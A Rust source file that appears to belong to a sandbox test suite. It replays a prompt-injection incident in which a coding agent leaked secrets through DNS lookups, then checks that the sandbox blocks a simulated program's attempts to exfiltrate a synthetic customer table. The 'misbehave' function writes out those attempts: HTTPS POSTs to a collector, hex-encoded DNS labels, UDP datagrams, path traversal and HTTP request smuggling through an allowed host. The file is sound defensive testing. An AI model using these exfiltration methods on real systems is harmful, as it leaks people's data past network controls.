//! The customer table on its way to somebody else: by HTTPS, by DNS, by an allowed host.

use std::net::{ToSocketAddrs, UdpSocket};

use belljar_ledger::Event;
use belljar_ledger::event::Effect;
use rusqlite::Connection;

use super::actor::Acting;
use super::asked::{Asked, Before};
use super::calling::{Call, call};
use super::check::Check;
use super::incident::{Incident, Played, tried};
use super::left;
use super::outside::{COLLECTOR, Outside, PARTNER};
use super::snapshot::Rows;
use super::stage::{Stage, database};
use crate::commands::run::chance;
use crate::failure::Failure;

pub(super) const INCIDENT: Incident = Incident {
    name: "exfiltration",
    when: "2025-06",
    happened: "An instruction hidden in a file that a coding agent was asked to look at made it read \
               secrets and send them out as labels of host names, by a command for looking up names \
               that needed nobody's consent. The name server of the attacker got them one by one.",
    attack: "send the customer table by HTTPS, by DNS, by datagrams, by an allowed host's error page",
    play,
};

/// Rows of the table.
const CUSTOMERS: i64 = 500;
/// A word that every row has; it changes with each replay.
const MARK: &str = "MARK";

fn play(stage: &Stage<'_>) -> Result<Played, Failure> {
    let folder = stage.folder("exfiltration")?;
    let source = folder.join("shop.db");
    let mark = format!("mark{:08x}", chance()?);
    let tables = "CREATE TABLE customers (id INTEGER PRIMARY KEY, mail TEXT);";
    database(&source, tables, |connection| fill(connection, &mark))?;
    stage.settle();
    let rows = Rows::of(&source)?;
    let outside = Outside::open()?;
    let marker = format!("belljar-demo-exfiltration-{}", std::process::id());
    let act = stage
        .actor("exfiltration", &marker)
        .database("shop", &source)?
        .set(MARK, &mark)?
        .set("PARTNER_PORT", outside.partner.port.to_string())?
        .set("COLLECTOR_PORT", outside.collector.port.to_string())?
        .network(outside.network()?);
    let report = stage.run(act)?;
    let records = stage.state.ledger.of_run(report.id)?;
    let denied = records.iter().filter(|record| {
        matches!(&record.event, Event::NetworkAsked(asked) if asked.effect == Effect::Deny)
    });
    let denied = denied.count();
    let left = outside.partner.heard(&mark) + outside.collector.heard(&mark);
    let asked = Asked::of(stage, &report, Before::default())?;
    let checks = vec![
        Check::same("the program ran to its end", 0, report.exit_code),
        Check::same(
            "connections to the collector",
            0,
            outside.collector.connections(),
        ),
        Check::same(
            "questions that reached a name server",
            0,
            outside.questions(),
        ),
        Check::same("customers that any server heard of", 0, left),
        Check::same(
            "times the partner was asked for its orders, which is allowed",
            2,
            outside.partner.heard("GET /v1/orders HTTP/1.1"),
        ),
        Check::holds(
            "attempts in the ledger as denied",
            "at least 8",
            denied,
            denied >= 8,
        ),
        rows.intact("every row of the customer table", &Rows::of(&source)?),
        left::nothing("left on the host", report.id, &marker),
    ];
    let note = "what an allowed request carries, it carries: a rule names the path and the method, \
                and a quota bounds the bytes";
    Ok(Played {
        tried: tried(&report.kept[0]),
        checks,
        asked,
        notes: vec![note.to_owned()],
    })
}

fn fill(connection: &Connection, mark: &str) -> Result<(), rusqlite::Error> {
    let mut customer = connection.prepare("INSERT INTO customers VALUES (?1, ?2)")?;
    for id in 1..=CUSTOMERS {
        customer.execute((id, format!("{mark}-{id}@customer.example")))?;
    }
    Ok(())
}

/// What the program inside does.
pub(super) fn misbehave(act: &mut Acting) {
    let stolen = match read(&act.variable("SHOP_PATH")) {
        Ok(mails) => mails,
        Err(error) => return act.say("read the customer table", &error.to_string()),
    };
    let count = format!("{} customers", stolen.len());
    act.say("read the customer table", &count);
    let data = stolen.join(",");
    let partner = act.variable("PARTNER_PORT").parse().unwrap_or(0);
    let collector = act.variable("COLLECTOR_PORT").parse().unwrap_or(0);
    by_https(act, &data, collector);
    by_names(act, &stolen);
    by_datagrams(act, &data);
    by_the_partner(act, &data, partner);
}

fn read(path: &str) -> Result<Vec<String>, rusqlite::Error> {
    let connection = Connection::open(path)?;
    let mut statement = connection.prepare("SELECT mail FROM customers")?;
    let mails = statement.query_map([], |row| row.get(0))?;
    mails.collect()
}

fn try_call(act: &mut Acting, what: &str, asked: &Call<'_>) {
    match call(act, asked) {
        Ok(answer) => act.say(
            what,
            &format!("{}: {}", answer.status, first_words(&answer.body)),
        ),
        Err(error) => act.say(what, &format!("failed: {error}")),
    }
}

fn first_words(body: &str) -> String {
    body.chars().take(60).collect()
}

fn by_https(act: &mut Acting, data: &str, port: u16) {
    let request = format!("POST /in HTTP/1.1\r\nhost: {COLLECTOR}\r\nx-data: {data}");
    let mut asked = Call {
        to: (COLLECTOR, port),
        name: COLLECTOR,
        request: &request,
    };
    try_call(act, "POST it to the collector", &asked);
    for address in ["198.51.100.7", "127.0.0.1", "2001:db8::7"] {
        asked.to = (address, port);
        try_call(
            act,
            &format!("POST it to the collector at {address}"),
            &asked,
        );
    }
    asked.name = PARTNER;
    try_call(act, "the same under the partner's name", &asked);
}

fn by_names(act: &mut Acting, stolen: &[String]) {
    let labels = stolen.iter().take(20).map(|mail| {
        let hex: String = mail.bytes().map(|byte| format!("{byte:02x}")).collect();
        let label: String = hex.chars().take(60).collect();
        format!("{label}.{COLLECTOR}")
    });
    let answered = labels.filter(|name| (name.as_str(), 80).to_socket_addrs().is_ok());
    let got = format!("{} of 20 answered", answered.count());
    act.say("look up host names that spell customers", &got);
    let resolver = Call {
        to: ("1.1.1.1", 443),
        name: "cloudflare-dns.com",
        request: "GET /dns-query HTTP/1.1\r\nhost: cloudflare-dns.com",
    };
    try_call(act, "ask a resolver over HTTPS", &resolver);
}

fn by_datagrams(act: &mut Acting, data: &str) {
    let send = |to: &str| -> std::io::Result<usize> {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.send_to(data.get(..1000).unwrap_or(data).as_bytes(), to)
    };
    for to in ["198.51.100.7:9", "198.51.100.7:443"] {
        let got = send(to).map_or_else(
            |error| format!("refused: {}", error.kind()),
            |bytes| format!("{bytes} bytes handed to the kernel, which drops them"),
        );
        act.say(&format!("send it as a datagram to {to}"), &got);
    }
}

fn by_the_partner(act: &mut Acting, data: &str, port: u16) {
    let short: String = data.chars().take(2000).collect();
    let host = format!("{PARTNER}:{port}");
    for (what, request) in [
        (
            "read the partner's error page about it",
            format!("GET /{short} HTTP/1.1\r\nhost: {host}"),
        ),
        (
            "the same with dots in the path",
            format!("GET /v1/../{short} HTTP/1.1\r\nhost: {host}"),
        ),
        (
            "PUT it at the partner",
            format!("PUT /v1/notes HTTP/1.1\r\nhost: {host}\r\nx-data: {short}"),
        ),
        (
            "name the collector in the partner's connection",
            format!("GET /v1/orders HTTP/1.1\r\nhost: {COLLECTOR}\r\nx-data: {short}"),
        ),
        (
            "smuggle a second request behind the first",
            format!(
                "GET /v1/orders HTTP/1.1\r\nhost: {host}\r\ncontent-length: 4\r\n\
                 transfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /{short} HTTP/1.1\r\nhost: {host}"
            ),
        ),
        (
            "GET the partner's orders, which is allowed",
            format!("GET /v1/orders HTTP/1.1\r\nhost: {host}"),
        ),
    ] {
        let asked = Call {
            to: (PARTNER, port),
            name: PARTNER,
            request: &request,
        };
        try_call(act, what, &asked);
    }
}
